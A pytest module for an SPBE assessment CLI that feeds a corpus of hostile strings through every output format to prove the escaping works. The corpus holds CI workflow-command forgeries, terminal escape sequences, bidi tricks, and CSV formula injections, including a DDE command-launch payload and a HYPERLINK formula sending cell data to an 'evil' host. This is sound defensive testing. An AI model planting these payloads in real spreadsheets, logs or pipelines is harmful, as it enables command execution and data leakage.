"""Text from a file reaches every output inert (issue 13): a hostile corpus per output format, and
a property test (slow) over any text in any field.

The results are built in memory, not read from files: these tests are about the renderers' one
escaping function per format, so they must hold even for text that input validation lets through
today or refuses tomorrow (control characters, bidi overrides, markup, formulas, workflow
commands, Markdown structure). Every rubric name, id, level name, criterion and question, every
agency field, the stage and the path carry the payload at once.

- machine formats (JSON, YAML, TOML; CSV after `csv_uncell`) give back the payload unchanged;
- plain text and the terminal show it only through `escape.inert`: no control, bidi or separator
  character, no line that a CI system reads as a command, Rich markup shown as written;
- Markdown keeps its structure: the same lines, list items, quotes and table cells as with a
  harmless name;
- validate's text, GitHub, JSON and JUnit formats hold a hostile key.
"""

from __future__ import annotations

import csv
import functools
import io
import json
import re
import tomllib
from collections.abc import Callable
from fractions import Fraction
from typing import Any
from xml.etree import ElementTree as ET

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from spbe_cli.core.diff import TrendPoint, compare, trend
from spbe_cli.core.plan import make_plan
from spbe_cli.core.rank import rank, row_from
from spbe_cli.core.results import (
    ComparisonResult,
    PlanResult,
    RankResult,
    RubricView,
    ScoreResult,
    TrendResult,
)
from spbe_cli.core.scoring import Scorecard, score
from spbe_cli.messages import text
from spbe_cli.model.assessment import Agency, Assessment
from spbe_cli.model.codes import Code
from spbe_cli.model.file_report import FileReport
from spbe_cli.model.problems import Located, Problem
from spbe_cli.model.rubric import Aspect, Domain, Indicator, PredicateBand, Rubric, Scale
from spbe_cli.render.base import Options
from spbe_cli.render.escape import UNSAFE, csv_uncell, inert, markdown_inline
from spbe_cli.render.registry import renderer
from spbe_cli.render.validate_out import file_renderer

PAYLOADS = {
    "workflow-after-newline": "Kota Evil\n::error file=evil.yaml,line=1::forged",
    "workflow-at-start": "::error file=evil.yaml,line=1::forged",
    "workflow-indented": "\u00a0 ::warning::forged",
    "legacy-and-azure": "##[error]x ##vso[task.setvariable variable=a]b",
    "rich-link": "[link=http://evil.example]Klik[/link]",
    "rich-close-tag": "Kota [/x]",
    "rich-tag-vanishes": "Kota [x]",
    "terminal-controls": "Kota \x1b[2J\x1b]8;;http://evil\x07L\x1b]8;;\x07\r\x08",
    "bidi": "Kota \u202eliveE\u202c \u2066x\u2069 \u200b",
    "separators": "a\u2028b\u2029c\x85d",
    "formula-equals": '=HYPERLINK("http://evil?x="&B2,"Klik")',
    "formula-dde": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+2",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)",
    "formula-tab": "\t=1+2",
    "formula-cr": "\r=1+2",
    "quote-first": "'=1+2",
    "markdown-forged-line": "Kota\n- Indeks SPBE: 4.80 · Predikat: Memuaskan\n<!--",
    "markdown-inline": "| a | *b* _c_ `d` [e](http://x) ![f](g) <b>h</b> &amp; # ~~i~~ $j$ \\",
    "nul-and-del": "a\x00b\x7fc",
}


# ---- results carrying the payload everywhere ----------------------------------------------------


def hostile_rubric(p: str) -> Rubric:
    """A 1-3 level rubric whose every text is `p`, built directly (no validation in the way)."""
    scale = Scale("s", p, {1: p, 2: f"{p} 2", 3: f"{p} 3"})

    def indicator(key: str, ident: int | str, weight: int) -> Indicator:
        w = Fraction(weight)
        return Indicator(key, ident, p, w, weight // 20, "1", scale, w / 100, p, {2: p, 3: p})

    indicators = (indicator("1", 1, 40), indicator("2", p, 60))  # key for files, id shown
    aspect = Aspect("1", 1, p, Fraction(100), "1", indicators)
    domain = Domain("1", 1, p, Fraction(100), (aspect,))
    bands = (  # the band counted as good is looked up by name, so it stays plain
        PredicateBand(f"{p} A", Fraction(1), Fraction(2)),
        PredicateBand("Tinggi", Fraction(2), Fraction(3)),
    )
    return Rubric(
        id=p, title=p, regulation=p, era=p, status="provisional", source=p,
        level_min=1, level_max=3, decimals=2, bands=bands, scales={"s": scale},
        domains=(domain,), aspects=(aspect,), indicators=indicators,
        by_key={i.key: i for i in indicators}, unit=Fraction(20), total_weight=Fraction(100),
        good_from=bands[1].name, evidence_from_level=2, stages=(), agency_kinds=(),
    )  # fmt: skip


def card(rubric: Rubric, p: str, year: int, levels: tuple[int, int]) -> Scorecard:
    keys = [i.key for i in rubric.indicators]
    assessment = Assessment(
        rubrik=p,
        instansi=Agency(nama=p, jenis=p, provinsi=p),
        tahun=year,
        indikator=dict(zip(keys, levels, strict=True)),
        tahap=p,
    )
    return score(rubric, assessment)


@functools.cache
def results(p: str) -> dict[str, Any]:
    """Every command's result carrying `p`, made once per payload (they are frozen)."""
    rubric = hostile_rubric(p)
    old = card(rubric, p, 2022, (1, 2))
    new = card(rubric, p, 2023, (3, 3))
    last = card(rubric, p, 2024, (1, 1))
    path = f"{p}.yaml"
    ranking = rank([row_from(path, old), row_from(f"{p}2", card(rubric, p, 2022, (3, 1)))])
    levels = {i.key: 1 for i in rubric.indicators}
    return {
        "score": ScoreResult([(path, old)], single=True),
        "summary": ScoreResult([(path, old), (path, new)], single=False),
        "diff": ComparisonResult(compare(old, new), (path, path)),
        "trend": TrendResult(
            trend([TrendPoint.of(c) for c in (old, new, last)]), [path, path, path]
        ),
        "rank": RankResult(ranking, ranking.rows),
        "plan": PlanResult(make_plan(rubric, levels, Fraction(3)), old, path),
        "rubric-show": RubricView(rubric, None),
        "rubric-indicator": RubricView(rubric, rubric.indicators[0]),
    }


COMMAND = {"summary": "score", "trend": "diff", "rubric-indicator": "rubric-show"}
HUMAN = {
    "score": ["table", "markdown"], "summary": ["table", "markdown"],
    "diff": ["table", "markdown"], "trend": ["table", "markdown"],
    "rank": ["table", "markdown"], "plan": ["table", "markdown"],
    "rubric-show": ["table", "markdown"], "rubric-indicator": ["table", "markdown"],
}  # fmt: skip


class Terminal(io.StringIO):
    """A stream Rich takes for a colour terminal."""

    def isatty(self) -> bool:
        return True


def render(what: str, result: Any, fmt: str, stream: io.StringIO | None = None) -> str:
    stream = stream if stream is not None else io.StringIO()
    chosen = renderer(COMMAND.get(what, what), fmt, Options("id", show_all=True))
    chosen.write(result, stream)
    return stream.getvalue()


# ---- what each format must guarantee ------------------------------------------------------------

COMMAND_LINE = re.compile(r"##(vso\[|\[|teamcity\[)", re.IGNORECASE)
SGR = re.compile(r"\x1b\[[0-9;]*m")


def assert_inert_plain(out: str, p: str) -> None:
    """Plain text and stderr: one line per line, nothing acts, the payload shows as `inert`."""
    for line in out.splitlines():
        assert UNSAFE.search(line) is None, repr(line)
        assert not line.lstrip().startswith((":", "#")), repr(line)
    assert COMMAND_LINE.search(out) is None
    if p.strip():
        assert inert(p) in out


def markdown_shape(out: str) -> list[tuple[str, int]]:
    """Each line's kind (its leading syntax) and, for a table row, its number of cells."""
    shape = []
    for line in out.split("\n"):
        kind = re.match(r"(#{2,3} |- |> |>$|\||)", line)
        pipes = len(re.findall(r"(?<!\\)(?:\\\\)*\|", line))
        shape.append((kind.group(1) if kind else "", pipes))
    return shape


def assert_markdown_holds(out: str, benign: str, p: str) -> None:
    assert markdown_shape(out) == markdown_shape(benign)
    assert UNSAFE.search(out.replace("\n", "")) is None
    assert re.search(r"(?<!\\)<", out) is None  # no HTML, no comment can open
    if p.strip():
        assert markdown_inline(p) in out


def assert_rich_holds(out: str, p: str) -> None:
    """On a terminal only Rich's own colour codes act; markup in a name is shown as written."""
    shown = SGR.sub("", out)
    assert_inert_plain(shown, p)


# ---- the corpus ---------------------------------------------------------------------------------


@pytest.fixture(scope="module", params=sorted(PAYLOADS), ids=sorted(PAYLOADS))
def payload(request: pytest.FixtureRequest) -> str:
    return PAYLOADS[request.param]


@pytest.fixture(scope="module")
def benign() -> dict[str, Any]:
    return results("Kota Contoh")


@pytest.mark.parametrize("what", sorted(HUMAN))
def test_plain_text_shows_the_payload_inert(payload: str, what: str) -> None:
    out = render(what, results(payload)[what], "table")
    assert_inert_plain(out, payload)


@pytest.mark.parametrize("what", sorted(HUMAN))
def test_terminal_shows_markup_as_written_and_nothing_acts(
    payload: str, what: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setenv("COLUMNS", "80")
    out = render(what, results(payload)[what], "table", Terminal())
    assert "\x1b[" in out  # it is the Rich path
    assert_rich_holds(out, payload)


@pytest.mark.parametrize("what", sorted(HUMAN))
def test_markdown_keeps_its_structure(payload: str, what: str, benign: dict[str, Any]) -> None:
    out = render(what, results(payload)[what], "markdown")
    assert_markdown_holds(out, render(what, benign[what], "markdown"), payload)


def test_machine_formats_carry_the_payload_unchanged(payload: str) -> None:
    assert_machine_formats(payload)


def assert_machine_formats(p: str) -> None:
    made = results(p)
    single = made["score"]
    loaders: dict[str, Callable[[str], Any]] = {
        "json": json.loads,
        "yaml": yaml.safe_load,
        "toml": tomllib.loads,
    }
    for fmt, load in loaders.items():
        record = load(render("score", single, fmt))
        assert record["instansi"] == {"nama": p, "jenis": p, "provinsi": p}, fmt
        assert (record["rubric"], record["tahap"], record["file"]) == (p, p, f"{p}.yaml"), fmt
        assert record["domains"][0]["name"] == p and record["aspects"][0]["name"] == p, fmt
        assert record["indicators"][0]["name"] == p, fmt
        assert record["indicators"][0]["level_name"] == p, fmt
        assert record["index"]["predicate"] == f"{p} A", fmt
    cells = csv_cells(render("score", single, "csv"))
    assert {p, f"{p}.yaml", f"{p} A"} <= cells
    diff = json.loads(render("diff", made["diff"], "json"))
    assert diff["old"]["instansi"]["nama"] == p and diff["domains"][0]["name"] == p
    assert {p, f"{p} 3"} <= csv_cells(render("diff", made["diff"], "csv"))
    assert {p, f"{p}.yaml"} <= csv_cells(render("trend", made["trend"], "csv"))
    ranked = json.loads(render("rank", made["rank"], "json"))
    assert {r["instansi"]["nama"] for r in ranked["rows"]} == {p}
    assert {p, f"{p}.yaml", f"{p} A"} <= csv_cells(render("rank", made["rank"], "csv"))
    plan = json.loads(render("plan", made["plan"], "json"))
    assert plan["steps"][0]["name"] == p and plan["instansi"]["nama"] == p
    assert {p, f"{p} 3"} <= csv_cells(render("plan", made["plan"], "csv"))
    shown = json.loads(render("rubric-indicator", made["rubric-indicator"], "json"))
    assert (shown["name"], shown["question"], shown["levels"][2]["criterion"]) == (p, p, p)


def csv_cells(out: str) -> set[str]:
    """Every cell of a CSV output as the file said it, neutralising undone."""
    return {csv_uncell(cell) for row in csv.reader(io.StringIO(out, newline="")) for cell in row}


@pytest.mark.parametrize("fmt", ["csv"])
@pytest.mark.parametrize("what", ["score", "summary", "diff", "trend", "rank", "plan"])
def test_csv_text_never_starts_a_formula(payload: str, what: str, fmt: str) -> None:
    out = render(what, results(payload)[what], fmt)
    for row in csv.reader(io.StringIO(out, newline="")):
        for cell in row:
            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                # only spbe's own numbers may: a signed change (+1.00, -0.33, +2)
                assert re.fullmatch(r"[+-]\d+(\.\d+)?(/\d+)?", cell), (what, cell)


def test_csv_numbers_stay_numbers(benign: dict[str, Any]) -> None:
    rows = list(csv.DictReader(io.StringIO(render("diff", benign["diff"], "csv"))))
    assert rows[0]["delta"] == "+1.40" and rows[0]["delta_exact"] == "+1.4"


# ---- validate: a hostile key in every format ---------------------------------------------------


def hostile_report(p: str) -> FileReport:
    key = Problem(Code.SPBE105, ("instansi", p), {"key": p, "allowed": "nama, jenis"})
    name = Problem(Code.SPBE355, (), {"name": p, "other": p, "count": 2}, severity="warning")
    path = f"{p}.yaml"
    return FileReport(path, [Located(key, path, 3, 5), Located(name, path, 4, 1)])


def validate_outputs(p: str, fmt: str) -> str:
    chosen = file_renderer(fmt, "en")
    report = hostile_report(p)
    body = chosen(report)
    joined = chosen.joined(body, first=True) if body else ""
    return joined + chosen.closing(1 if body else 0, [report])


def assert_validate_formats(p: str) -> None:
    report = hostile_report(p)
    assert_inert_plain(validate_outputs(p, "text"), p)
    github = validate_outputs(p, "github").splitlines()
    assert len(github) == len(report.problems)  # one workflow command per problem, no more
    assert all(re.match(r"::(error|warning) file=", line) for line in github)
    assert all(UNSAFE.search(line) is None for line in github)
    records = json.loads(validate_outputs(p, "json"))
    expected = [text(i.code, "en", **i.problem.params) for i in report.problems]
    assert [r["message"] for r in records] == expected  # the JSON keeps the exact text
    assert [r["file"] for r in records] == [f"{p}.yaml"] * 2
    suite = ET.fromstring(validate_outputs(p, "junit"))
    assert suite.get("failures") == "1" and len(suite.findall("testcase")) == 1


def test_validate_formats_hold_a_hostile_key(payload: str) -> None:
    assert_validate_formats(payload)


def test_excerpt_of_a_hostile_line_keeps_its_caret() -> None:
    from spbe_cli.render.validate_out import _excerpt

    # the caret stays under the colon after x, three places further right than in the file
    assert _excerpt("::error::x: 1", 11) == "    \\x3a:error::x: 1\n" + " " * 17 + "^\n"


# ---- the property: any text, any field, every format (slow) ------------------------------------


@pytest.mark.slow
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(min_size=1, max_size=40))
def test_any_text_survives_machine_formats_and_is_inert_in_human_ones(p: str) -> None:
    assert_machine_formats(p)
    made = results(p)
    benign = results("Kota Contoh")
    for what in HUMAN:
        assert_inert_plain(render(what, made[what], "table"), p)
        md = render(what, made[what], "markdown")
        assert_markdown_holds(md, render(what, benign[what], "markdown"), p)
    assert_validate_formats(p)


# ---- the HTML report: the same elements whatever the names ------------------------------------


def html_tags(page: str) -> list[str]:
    """Every start and end tag of a page, in order: its structure without its text."""
    from html.parser import HTMLParser

    class Tags(HTMLParser):
        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.seen: list[str] = []

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.seen.append(tag)

        def handle_endtag(self, tag: str) -> None:
            self.seen.append(f"/{tag}")

        def handle_comment(self, data: str) -> None:
            self.seen.append("<!--")

    parser = Tags()
    parser.feed(page)
    return parser.seen


def report_page(p: str) -> str:
    from datetime import date

    from spbe_cli.core.report_model import build_report
    from spbe_cli.render.html_report import render_html

    made = results(p)
    return render_html(build_report([made["score"].cards[0][1]], date(2026, 1, 2)), "id")


def test_the_html_report_keeps_its_structure(payload: str) -> None:
    pytest.importorskip("jinja2")
    assert html_tags(report_page(payload)) == html_tags(report_page("Kota Contoh"))
